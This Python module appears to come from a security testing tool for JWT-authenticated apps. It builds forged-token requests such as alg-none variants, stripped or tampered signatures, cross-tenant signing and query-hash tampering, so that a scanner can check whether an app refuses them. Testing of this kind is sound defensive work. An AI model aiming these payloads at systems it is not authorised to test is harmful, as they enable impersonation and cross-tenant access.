"""The token attack set of CONNECT-AUTH.md (R9 token handling, R13 qsh binding) as pure request builders.

Every builder returns the request to send; nothing here does I/O. A correct app refuses all of them
(``exp-far-future`` and the other ``warn`` hints excepted, which only a strict verifier refuses).
"""

from __future__ import annotations

import hashlib
import hmac
import secrets
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit, urlunsplit

from connectsec.connect_jwt import (
    CONTEXT_QSH,
    b64url_decode,
    b64url_encode,
    encode_json_segment,
    encode_segments,
    query_string_hash,
    sign_hs256_raw,
)

_HEADER: dict[str, Any] = {"alg": "HS256", "typ": "JWT"}
_LIFETIME_S = 180
_TEN_YEARS_S = 10 * 365 * 86400
_OTHER_ACCOUNT = "557058:00000000-0000-4000-8000-00000000c0de"
_MARKER_PARAM = "connectsec"


@dataclass(frozen=True, kw_only=True)
class AttackInput:
    """What an attack needs to know about the request it targets and the tenant it impersonates."""

    method: str
    url: str
    """The request URL without any jwt parameter."""
    base_url: str
    """The app baseUrl (for qsh)."""
    token_in_query: bool
    """GET iframe pages carry ?jwt=; everything else Authorization: JWT."""
    client_key: str
    """The tenant's clientKey, or a random one when none was given."""
    shared_secret: str | None = None
    """None: only attacks that need no secret can be built."""
    subject: str | None = None
    now: int
    """Unix seconds."""
    other_tenant: tuple[str, str] | None = None
    """(client_key, shared_secret) of a second tenant."""


@dataclass(frozen=True)
class AttackRequest:
    """A request ready to send: method, URL (token included when in the query) and headers."""

    method: str
    url: str
    headers: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Attack:
    """One attack: what it is, what it needs, and how to build its request."""

    id: str
    title: str
    requirement: str
    """`R9` or `R13`."""
    needs_secret: bool
    needs_other_tenant: bool = False
    severity_hint: str = "critical"
    """What an accepted attack means: `critical`, `high` or `warn`."""
    _builder: Callable[[AttackInput], AttackRequest] = field(kw_only=True, repr=False, compare=False)

    def build(self, given: AttackInput) -> AttackRequest:
        """The attack request for this target.

        Raises:
            ValueError: the attack needs a shared secret or a second tenant that `given` lacks.
        """
        if self.needs_secret and not given.shared_secret:
            raise ValueError(f"attack {self.id} needs the tenant's shared secret")
        if self.needs_other_tenant and given.other_tenant is None:
            raise ValueError(f"attack {self.id} needs a second tenant")
        return self._builder(given)


# --- tokens -------------------------------------------------------------------------------------------


def _claims(
    given: AttackInput, *, qsh: str | None = None, drop: tuple[str, ...] = (), **overrides: Any
) -> dict[str, Any]:
    """The correct claims for the real request, `overrides` applied and the `drop` claims removed."""
    claims: dict[str, Any] = {
        "iss": given.client_key,
        "iat": given.now,
        "exp": given.now + _LIFETIME_S,
        "qsh": query_string_hash(given.method, given.url, given.base_url) if qsh is None else qsh,
    }
    if given.subject is not None:
        claims["sub"] = given.subject
    claims.update(overrides)
    for name in drop:
        claims.pop(name, None)
    return claims


def _secret(given: AttackInput) -> bytes:
    if not given.shared_secret:
        raise ValueError("this token needs the tenant's shared secret")
    return given.shared_secret.encode("utf-8")


def _signed(given: AttackInput, claims: dict[str, Any], header: dict[str, Any] | None = None) -> str:
    return sign_hs256_raw(header or _HEADER, claims, _secret(given))


def _valid_token(given: AttackInput) -> str:
    return _signed(given, _claims(given))


def _signature(token: str) -> str:
    return token.rsplit(".", 1)[1]


def _hmac_raw(header_json: bytes, claims: dict[str, Any], key: bytes) -> str:
    signing_input = f"{b64url_encode(header_json)}.{encode_json_segment(claims)}"
    mac = hmac.new(key, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{b64url_encode(mac)}"


def _other_subject(given: AttackInput) -> str:
    return _OTHER_ACCOUNT if given.subject != _OTHER_ACCOUNT else _OTHER_ACCOUNT[:-4] + "beef"


# --- placement ----------------------------------------------------------------------------------------


def _with_query_param(url: str, pair: str) -> str:
    parts = urlsplit(url)
    query = f"{parts.query}&{pair}" if parts.query else pair
    return urlunsplit(parts._replace(query=query))


def _placed(method: str, url: str, token: str, in_query: bool) -> AttackRequest:
    if in_query:
        return AttackRequest(method, _with_query_param(url, f"jwt={token}"))
    return AttackRequest(method, url, (("Authorization", f"JWT {token}"),))


def place(given: AttackInput, token: str) -> AttackRequest:
    """Put a token where the product would: `?jwt=` for GET iframe pages, else `Authorization: JWT`."""
    return _placed(given.method, given.url, token, given.token_in_query)


def valid_request(given: AttackInput, qsh: str | None = None) -> AttackRequest:
    """The request with a correct token (liveness proof); `qsh` overrides the computed hash.

    Raises:
        ValueError: `given` has no shared secret.
    """
    return place(given, _signed(given, _claims(given, qsh=qsh)))


# --- R9 builders --------------------------------------------------------------------------------------


def _token_attack(make: Callable[[AttackInput], str]) -> Callable[[AttackInput], AttackRequest]:
    return lambda given: place(given, make(given))


def _alg_none(alg: str) -> Callable[[AttackInput], AttackRequest]:
    return _token_attack(lambda given: encode_segments({"alg": alg, "typ": "JWT"}, _claims(given)))


def _none_signature_kept(given: AttackInput) -> str:
    header = encode_json_segment({"alg": "none", "typ": "JWT"})
    _, payload, signature = _valid_token(given).split(".")
    return f"{header}.{payload}.{signature}"


def _payload_altered(given: AttackInput) -> str:
    valid = _valid_token(given)
    context = {"user": {"accountId": _other_subject(given)}}
    claims = _claims(given, sub=_other_subject(given), context=context)
    return f"{encode_json_segment(_HEADER)}.{encode_json_segment(claims)}.{_signature(valid)}"


def _bitflip(given: AttackInput) -> str:
    valid = _valid_token(given)
    signature = bytearray(b64url_decode(_signature(valid)))
    signature[0] ^= 0x01
    return f"{valid.rsplit('.', 1)[0]}.{b64url_encode(bytes(signature))}"


def _truncated(given: AttackInput) -> str:
    valid = _valid_token(given)
    signature = b64url_decode(_signature(valid))
    return f"{valid.rsplit('.', 1)[0]}.{b64url_encode(signature[: len(signature) // 2])}"


def _cross_tenant(given: AttackInput) -> str:
    if given.other_tenant is None:
        raise ValueError("cross-tenant-secret needs a second tenant")
    return sign_hs256_raw(_HEADER, _claims(given), given.other_tenant[1].encode("utf-8"))


def _header_query_disagree(given: AttackInput) -> AttackRequest:
    forged = encode_segments({"alg": "none", "typ": "JWT"}, _claims(given, sub=_other_subject(given)))
    url = _with_query_param(given.url, f"jwt={forged}")
    return AttackRequest(given.method, url, (("Authorization", f"JWT {_valid_token(given)}"),))


def _dup_header_keys(given: AttackInput) -> str:
    return _hmac_raw(b'{"alg":"none","alg":"HS256","typ":"JWT"}', _claims(given), _secret(given))


def _crit_unknown(given: AttackInput) -> str:
    header = {**_HEADER, "crit": ["x-connectsec"], "x-connectsec": True}
    return _signed(given, _claims(given), header)


def _bad_base64(given: AttackInput) -> str:
    header = encode_json_segment(_HEADER)
    return f"{header[:4]}!{header[4:]}.{encode_json_segment(_claims(given))}.*"


def _oversized(given: AttackInput) -> str:
    header = {**_HEADER, "x-pad": "A" * 9000}
    return sign_hs256_raw(header, _claims(given), secrets.token_bytes(32))


def _two_segments(given: AttackInput) -> str:
    return f"{encode_json_segment(_HEADER)}.{encode_json_segment(_claims(given))}"


def _non_json(given: AttackInput) -> str:
    return f"{b64url_encode(b'not json')}.{b64url_encode(b'{also not json')}.{b64url_encode(b'sig')}"


def _claim_attack(**overrides: Any) -> Callable[[AttackInput], AttackRequest]:
    return _token_attack(lambda given: _signed(given, _claims(given, **overrides)))


def _timed(make: Callable[[int], dict[str, Any]]) -> Callable[[AttackInput], AttackRequest]:
    return _token_attack(lambda given: _signed(given, _claims(given, **make(given.now))))


def _r9(
    ident: str,
    title: str,
    builder: Callable[[AttackInput], AttackRequest],
    *,
    needs_secret: bool = False,
    needs_other_tenant: bool = False,
    severity_hint: str = "critical",
) -> Attack:
    return Attack(ident, title, "R9", needs_secret, needs_other_tenant, severity_hint, _builder=builder)


TOKEN_ATTACKS: tuple[Attack, ...] = (
    _r9("no-token", "no token at all", lambda g: AttackRequest(g.method, g.url)),
    _r9(
        "empty-authorization",
        "empty Authorization: JWT header",
        lambda g: AttackRequest(g.method, g.url, (("Authorization", "JWT"),)),  # HTTP strips trailing blanks
    ),
    _r9(
        "empty-jwt-param",
        "empty ?jwt= parameter",
        lambda g: AttackRequest(g.method, _with_query_param(g.url, "jwt=")),
    ),
    _r9("two-segments", "token with two segments", _token_attack(_two_segments)),
    _r9("bad-base64", "token segments that are not base64url", _token_attack(_bad_base64)),
    _r9("non-json", "token segments that are not JSON", _token_attack(_non_json)),
    _r9("oversized-header", "token header over 8 KB", _token_attack(_oversized)),
    _r9("alg-none", "alg none, empty signature", _alg_none("none")),
    _r9("alg-None", "alg None, empty signature", _alg_none("None")),
    _r9("alg-NONE", "alg NONE, empty signature", _alg_none("NONE")),
    _r9("alg-nOnE", "alg nOnE, empty signature", _alg_none("nOnE")),
    _r9(
        "alg-none-signature-kept",
        "alg none with a valid token's signature kept",
        _token_attack(_none_signature_kept),
        needs_secret=True,
    ),
    _r9(
        "signature-stripped",
        "HS256 token with its signature stripped",
        _token_attack(lambda g: encode_segments(_HEADER, _claims(g))),
    ),
    _r9(
        "hs256-random-key",
        "HS256 token signed with a random key",
        _token_attack(lambda g: sign_hs256_raw(_HEADER, _claims(g), secrets.token_bytes(32))),
    ),
    _r9(
        "hs256-empty-key",
        "HS256 token signed with an empty key",
        _token_attack(lambda g: sign_hs256_raw(_HEADER, _claims(g), b"")),
    ),
    _r9(
        "payload-altered",
        "sub and context changed after signing",
        _token_attack(_payload_altered),
        needs_secret=True,
    ),
    _r9("signature-bitflip", "signature with one bit flipped", _token_attack(_bitflip), needs_secret=True),
    _r9("signature-truncated", "signature truncated", _token_attack(_truncated), needs_secret=True),
    _r9(
        "expired",
        "token expired 10 minutes ago",
        _timed(lambda now: {"exp": now - 600, "iat": now - 900}),
        needs_secret=True,
        severity_hint="high",
    ),
    _r9(
        "exp-missing",
        "token without exp",
        _claim_attack(drop=("exp",)),
        needs_secret=True,
        severity_hint="high",
    ),
    _r9(
        "exp-far-future",
        "token valid for 10 years",
        _timed(lambda now: {"exp": now + _TEN_YEARS_S}),
        needs_secret=True,
        severity_hint="warn",
    ),
    _r9(
        "nbf-future",
        "nbf one hour in the future",
        _timed(lambda now: {"nbf": now + 3600}),
        needs_secret=True,
        severity_hint="warn",
    ),
    _r9(
        "iat-future",
        "iat one hour in the future",
        _timed(lambda now: {"iat": now + 3600, "exp": now + 3600 + _LIFETIME_S}),
        needs_secret=True,
        severity_hint="warn",
    ),
    _r9(
        "iss-missing",
        "token without iss",
        _claim_attack(drop=("iss",)),
        needs_secret=True,
        severity_hint="high",
    ),
    _r9(
        "iss-unknown",
        "unknown clientKey as iss, signed with the tenant's secret",
        _token_attack(lambda g: _signed(g, _claims(g, iss=f"connectsec-{secrets.token_hex(8)}"))),
        needs_secret=True,
        severity_hint="high",
    ),
    _r9(
        "cross-tenant-secret",
        "signed with another tenant's secret, iss of this tenant",
        _token_attack(_cross_tenant),
        needs_other_tenant=True,
    ),
    _r9(
        "header-query-disagree",
        "valid token in the header, alg-none token for another account in the query",
        _header_query_disagree,
        needs_secret=True,
        severity_hint="high",
    ),
    _r9(
        "dup-header-keys",
        'header with "alg" twice (none, then HS256), validly signed',
        _token_attack(_dup_header_keys),
        needs_secret=True,
        severity_hint="high",
    ),
    _r9(
        "crit-unknown",
        "header crit names an unknown extension",
        _token_attack(_crit_unknown),
        needs_secret=True,
        severity_hint="warn",
    ),
)
"""R9: token handling. Every one must be refused."""


# --- R13 builders -------------------------------------------------------------------------------------


def _query_pieces(url: str) -> list[str]:
    return [piece for piece in urlsplit(url).query.split("&") if piece]


def _with_query(url: str, pieces: list[str]) -> str:
    return urlunsplit(urlsplit(url)._replace(query="&".join(pieces)))


def _sent_elsewhere(given: AttackInput, sent_url: str) -> AttackRequest:
    """A token minted for the real URL, sent to `sent_url`."""
    return _placed(given.method, sent_url, _valid_token(given), given.token_in_query)


def _param_added(given: AttackInput) -> AttackRequest:
    return _sent_elsewhere(given, _with_query_param(given.url, f"{_MARKER_PARAM}=1"))


def _query_changed(given: AttackInput) -> AttackRequest:
    pieces = _query_pieces(given.url)
    if not pieces:
        return _param_added(given)
    key, _, value = pieces[0].partition("=")
    new_value = _MARKER_PARAM if value != _MARKER_PARAM else f"{_MARKER_PARAM}-changed"
    return _sent_elsewhere(given, _with_query(given.url, [f"{key}={new_value}", *pieces[1:]]))


def _path_changed(given: AttackInput) -> AttackRequest:
    parts = urlsplit(given.url)
    minted_for = urlunsplit(parts._replace(path=parts.path.rstrip("/") + f"/{_MARKER_PARAM}"))
    qsh = query_string_hash(given.method, minted_for, given.base_url)
    return place(given, _signed(given, _claims(given, qsh=qsh)))


def _param_removed(given: AttackInput) -> AttackRequest:
    pieces = _query_pieces(given.url)
    if not pieces:
        return _path_changed(given)
    return _sent_elsewhere(given, _with_query(given.url, pieces[1:]))


def _method_changed(given: AttackInput) -> AttackRequest:
    other = "POST" if given.method.upper() == "GET" else "GET"
    qsh = query_string_hash(other, given.url, given.base_url)
    return place(given, _signed(given, _claims(given, qsh=qsh)))


def _r13(ident: str, title: str, builder: Callable[[AttackInput], AttackRequest]) -> Attack:
    return Attack(ident, title, "R13", True, severity_hint="high", _builder=builder)


TAMPER_ATTACKS: tuple[Attack, ...] = (
    _r13("qsh-query-changed", "query value changed after signing", _query_changed),
    _r13("qsh-param-added", "query parameter added after signing", _param_added),
    _r13("qsh-param-removed", "query parameter removed after signing", _param_removed),
    _r13("qsh-path-changed", "qsh of another path", _path_changed),
    _r13("qsh-method-changed", "qsh of another method", _method_changed),
    _r13(
        "qsh-context",
        "context-qsh on a request that is not a context endpoint",
        _claim_attack(qsh=CONTEXT_QSH),
    ),
    _r13("qsh-missing", "token without qsh", _claim_attack(drop=("qsh",))),
)
"""R13: tokens bound to another request (qsh). All need the secret."""


def attack_by_id(ident: str) -> Attack:
    """The attack with this id.

    Raises:
        KeyError: no such attack.
    """
    for attack in (*TOKEN_ATTACKS, *TAMPER_ATTACKS):
        if attack.id == ident:
            return attack
    raise KeyError(ident)


__all__ = [
    "TAMPER_ATTACKS",
    "TOKEN_ATTACKS",
    "Attack",
    "AttackInput",
    "AttackRequest",
    "attack_by_id",
    "place",
    "valid_request",
]
